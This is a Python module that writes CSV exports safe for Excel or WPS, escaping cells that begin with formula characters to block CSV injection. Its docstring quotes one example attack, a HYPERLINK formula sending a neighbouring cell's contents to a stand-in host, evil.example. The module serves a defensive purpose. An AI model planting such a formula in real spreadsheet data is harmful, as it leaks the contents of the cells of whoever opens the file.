"""CSV files people open in Excel or WPS on a station PC: the one writer every export uses.

A text cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or line
feed before one) runs as a formula when the file is opened: a title such as
``=HYPERLINK("http://evil.example/?"&A1,"点击")`` would send the neighbouring cells away
(OWASP "CSV Injection"). Such a cell gets a leading apostrophe, which spreadsheets show as
text and hide. Numbers are written as they are: a negative number is no formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet will read it as text, never as a formula."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def to_csv(rows: Iterable[Iterable[object]]) -> bytes:
    """UTF-8 CSV with a byte-order mark (Excel reads UTF-8 only with one), formula-safe."""
    out = io.StringIO()
    csv.writer(out).writerows([safe_cell(c) for c in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode()
